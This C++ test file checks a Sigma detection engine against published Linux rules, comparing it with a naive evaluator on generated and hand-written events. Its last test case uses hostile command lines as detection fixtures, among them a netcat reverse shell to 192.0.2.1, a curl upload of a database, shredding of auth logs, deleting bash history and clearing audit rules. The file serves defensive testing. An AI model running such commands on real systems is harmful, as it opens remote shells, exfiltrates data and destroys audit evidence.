// The published Linux and network rules: each with an event that is made to match it and some that
// are not, judged by the engine (all rules of the log source at once) and by the naive evaluator.
// Skipped, with a notice, where the rules are not there; the fixtures hold the same code.
#include <filesystem>
#include <iostream>
#include <random>

#include "core/base/file.h"
#include "core/base/test/result_text.h"
#include "modules/intelligence/rules/engine.h"
#include "modules/intelligence/rules/rule_files.h"
#include "modules/intelligence/rules/test/naive.h"

using namespace amoskys;
using namespace amoskys::rules;
using config::YamlNode;

namespace {

const std::filesystem::path published = std::filesystem::path(AMOSKYS_SHARED_DATA) / "sigma";

bool have_rules() {
    if (std::filesystem::exists(published))
        return true;
    WARN("skipped: there are no Sigma rules at " << published);
    return false;
}

struct Published {
    std::string file;
    YamlNode yaml;
    Rule rule;
};

// All that the engine takes, with their YAML.
std::vector<Published> published_rules() {
    std::vector<Published> out;
    constexpr config::YamlErrors errors{ErrorKind::bad_data, "test"};
    for (const auto& file : rule_files_below(published).value()) {
        const std::string text = read_file(file, max_rule_file_bytes).value();
        auto parsed = parse_rules(text, file.string());
        auto yaml = config::parse_yaml_tree(text, file.string(), errors);
        if (yaml && parsed.size() == 1 && parsed[0].fault == ParsedRule::Fault::none)
            out.push_back({file.string(), std::move(*yaml), std::move(parsed[0].rule)});
    }
    return out;
}

// A text that one of the published expressions takes.
std::string sample_of(const std::string& expression) {
    const std::pair<std::string_view, std::string> samples[] = {
        {"python3", "/usr/lib/python3.11/site-packages/x"},
        {"[^/]{100,}", std::string(120, 'n')},
        {"(.){200,}", std::string(220, 'c')},
        {"--inode", " -li "},
        {"--directory", " -ld "},
        {"(W|R)", " -W '41 42 43' "},
        {"-D", " -D"},
        {"\\s-O\\s", " -O "},
        {"[FTd]", " -T "},
        {"\\.[^.", "/.hidden"},
    };
    for (const auto& [part, sample] : samples)
        if (expression.find(part) != std::string::npos)
            return sample;
    return "";
}

std::string without_wildcards(const std::string& text) {
    std::string out;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const bool escapes = text[i] == '\\' && i + 1 < text.size() &&
                             std::string("*?\\").find(text[i + 1]) != std::string::npos;
        if (escapes)
            out += text[++i];
        else
            out += text[i] == '*' || text[i] == '?' ? 'w' : text[i];
    }
    return out;
}

// What one field has to be, collected from the selections that are to hold.
struct Wish {
    std::optional<std::string> exact;
    std::string begin, middle, end;
    std::string text() const {
        return exact.value_or(begin + (middle.empty() ? "" : " ") + middle + end);
    }
};

class Maker {
  public:
    explicit Maker(std::mt19937& random) : random_(random) {}

    void want(const YamlNode& node) {
        if (node.kind == YamlNode::Kind::list && !node.items.empty())
            return want(node.items[random_() % node.items.size()]);
        if (node.kind == YamlNode::Kind::scalar)
            return want_value("|contains", node);
        for (const auto& [key, value] : node.entries) {
            const bool all = key.text.find("|all") != std::string::npos;
            const std::string name = key.text.starts_with('|') ? "|contains" : key.text;
            if (value.kind != YamlNode::Kind::list)
                want_value(name, value);
            else if (all)
                for (const YamlNode& each : value.items)
                    want_value(name, each);
            else
                want_value(name, value.items[random_() % value.items.size()]);
        }
    }

    Fields fields() const {
        Fields out;
        for (const auto& [name, wish] : wishes_)
            out[name] = {wish.text()};
        return out;
    }

  private:
    void want_value(const std::string& key, const YamlNode& value) {
        const auto words = split(key, '|');
        if (value.kind == YamlNode::Kind::null)
            return;
        Wish& wish = wishes_[std::string(words[0])];
        const auto has = [&](std::string_view word) {
            return std::find(words.begin(), words.end(), word) != words.end();
        };
        const std::string plain = without_wildcards(value.text);
        if (has("re"))
            wish.middle += sample_of(value.text);
        else if (has("cidr"))
            wish.exact = value.text.substr(0, value.text.find('/'));
        else if (has("contains"))
            wish.middle += plain + " ";
        else if (has("startswith"))
            wish.begin = plain;
        else if (has("endswith"))
            wish.end = plain;
        else
            wish.exact = plain;
    }

    std::mt19937& random_;
    std::map<std::string, Wish> wishes_;
};

// An event in which some of the rule's selections are true: all that are no filters, or a choice.
Fields some_selections(const YamlNode& rule, std::mt19937& random, bool all) {
    Maker maker(random);
    for (const auto& [name, selection] : rule.find("detection")->entries) {
        if (name.text == "condition" || name.text == "timeframe")
            continue;
        const bool is_filter = name.text.starts_with("filter") || name.text.starts_with("exclude");
        if (all ? !is_filter : random() % 2 == 0)
            maker.want(selection);
    }
    return maker.fields();
}

// An event that the naive evaluator takes.
std::optional<Fields> positive_of(const YamlNode& rule, std::mt19937& random) {
    for (int round = 0; round < 4000; ++round) {
        Fields fields = some_selections(rule, random, round == 0);
        if (naive::matches(rule, fields))
            return fields;
    }
    return std::nullopt;
}

// The event with one thing changed.
std::vector<Fields> changed(const Fields& event) {
    std::vector<Fields> out = {{}};
    for (const auto& [name, texts] : event) {
        Fields without = event;
        without.erase(name);
        out.push_back(without);
        for (const auto& text : {std::string("zzz"), texts[0] + "~", "~" + texts[0],
                                 texts[0].substr(0, texts[0].size() / 2),
                                 texts[0].substr(texts[0].size() / 2), std::string()}) {
            Fields other = event;
            other[name] = {text};
            out.push_back(other);
        }
        Fields upper = event;
        for (char& c : upper[name][0])
            c = c >= 'a' && c <= 'z' ? static_cast<char>(c - 32) : c;
        out.push_back(upper);
    }
    return out;
}

}  // namespace

TEST_CASE("every published rule has an event that matches and one that does not, in both engines") {
    if (!have_rules())
        return;
    const std::vector<Published> rules = published_rules();
    REQUIRE(rules.size() > 250);
    std::vector<const Detection*> detections;
    for (const Published& each : rules)
        detections.push_back(&each.rule.detection);
    auto all = Matcher::compile(detections);
    REQUIRE(all);
    std::mt19937 random(1);
    std::size_t positives = 0, negatives = 0;
    std::vector<Fields> events;
    for (std::size_t i = 0; i < rules.size(); ++i) {
        INFO(rules[i].file);
        const auto positive = positive_of(rules[i].yaml, random);
        REQUIRE(positive);
        ++positives;
        const auto judge = [&](const Fields& event) {
            const auto found = all->match(texts_of(*all, event));
            return std::binary_search(found.begin(), found.end(), static_cast<std::uint32_t>(i));
        };
        REQUIRE(judge(*positive));
        bool has_negative = false;
        std::vector<Fields> others = changed(*positive);
        for (int round = 0; round < 20; ++round)
            others.push_back(some_selections(rules[i].yaml, random, false));
        for (const Fields& event : others) {
            const bool expected = naive::matches(rules[i].yaml, event);
            if (judge(event) != expected) {
                for (const auto& [name, texts] : event)
                    UNSCOPED_INFO(name << " = " << texts[0]);
                REQUIRE(judge(event) == expected);
            }
            has_negative |= !expected;
        }
        CHECK(has_negative);
        negatives += has_negative ? 1 : 0;
        events.push_back(*positive);
    }
    // Each event before every rule: the engine in one pass, the other rule by rule.
    std::size_t verdicts = 0;
    for (std::size_t e = 0; e < events.size(); e += 3) {
        const auto span = all->match(texts_of(*all, events[e]));
        const std::vector<std::uint32_t> found(span.begin(), span.end());
        for (std::uint32_t i = 0; i < rules.size(); ++i, ++verdicts)
            if (naive::matches(rules[i].yaml, events[e]) !=
                std::binary_search(found.begin(), found.end(), i))
                FAIL(rules[i].file << " and the event of " << rules[e].file);
    }
    std::cout << positives << " positive events, " << negatives << " rules with negative ones, "
              << verdicts << " verdicts of all against all\n";
}

TEST_CASE("of the published rules only those that Sigma 2 does not know are refused") {
    if (!have_rules())
        return;
    std::vector<ParsedRule> all = rules_below(published).value();
    auto engine = Engine::build(std::move(all), embedded_mapping().value());
    REQUIRE(engine);
    std::map<std::string, int> states;
    for (std::size_t i = 0; i < (*engine)->rules().size(); ++i) {
        const Placement& placement = (*engine)->placement(i);
        ++states[std::string(state_name(placement.state))];
        if ((*engine)->usable(i))
            continue;
        INFO((*engine)->rules()[i].rule.file << ": " << placement.reason);
        CHECK(placement.state == Placement::State::unsupported);
        CHECK_THAT(placement.reason, Catch::Contains("aggregations behind |"));
        CHECK_THAT((*engine)->rules()[i].rule.file, Catch::Contains("/unsupported/"));
    }
    for (const auto& [state, count] : states)
        std::cout << count << " " << state << "\n";
    CHECK(states["invalid"] == 0);
    CHECK(states["no_source"] == 0);
    CHECK(states["unsupported"] <= 6);
}

TEST_CASE("published rules and commands as people type them") {
    if (!have_rules())
        return;
    struct Case {
        const char* file;
        Fields event;
        bool expected;
    };
    const auto process = [](const char* image, const char* command) {
        return Fields{{"Image", {image}}, {"CommandLine", {command}}};
    };
    const Case cases[] = {
        {"at_command", process("/usr/bin/at", "at now + 1 minute"), true},
        {"at_command", process("/usr/bin/cat", "cat x"), false},
        {"base64_decode", process("/usr/bin/base64", "base64 --decode p.txt"), true},
        {"base64_decode", process("/usr/bin/base64", "base64 p.txt"), false},
        {"clear_logs", process("/usr/bin/shred", "shred -u /var/log/auth.log"), true},
        {"clear_logs", process("/bin/rm", "rm -f /var/log/sysstat/sa01"), false},
        {"crypto_mining", process("/opt/x", "x -o pool.example:3333 --donate-level=0"), true},
        {"crypto_mining", process("/opt/x", "x --help"), false},
        {"susp_curl_fileupload", process("/usr/bin/curl", "curl -T db.gz ftp://h/"), true},
        {"susp_curl_fileupload", process("/usr/bin/curl", "curl -t db.gz ftp://h/"), false},
        {"susp_curl_fileupload", process("/usr/bin/curl", "curl -T a http://localhost/"), false},
        {"susp_history_delete", process("/bin/rm", "rm /root/.bash_history"), true},
        {"susp_history_delete", process("/bin/rm", "rm /root/notes"), false},
        {"auditctl_clear_rules", process("/sbin/auditctl", "auditctl -D"), true},
        {"auditctl_clear_rules", process("/sbin/auditctl", "auditctl -d"), false},
        {"wget_download_suspicious_directory",
         process("/usr/bin/wget", "wget http://h/a -O /tmp/a"), true},
        {"wget_download_suspicious_directory",
         process("/usr/bin/wget", "wget http://h/a -o /tmp/log"), false},
        {"susp_inod_listing", process("/bin/ls", "ls -id /"), true},
        {"susp_inod_listing", process("/bin/ls", "ls -l /"), false},
        {"netcat_reverse_shell", process("/bin/nc", "nc -e /bin/sh 192.0.2.1 4444"), true},
        {"netcat_reverse_shell", process("/bin/nc", "nc -l 4444"), false},
    };
    const std::vector<Published> rules = published_rules();
    for (const Case& each : cases) {
        INFO(each.file);
        const auto found = std::find_if(rules.begin(), rules.end(), [&](const Published& rule) {
            return rule.file.ends_with("proc_creation_lnx_" + std::string(each.file) + ".yml");
        });
        REQUIRE(found != rules.end());
        auto matcher = Matcher::compile({&found->rule.detection});
        REQUIRE(matcher);
        CHECK(matcher->match(texts_of(*matcher, each.event)).empty() != each.expected);
    }
}
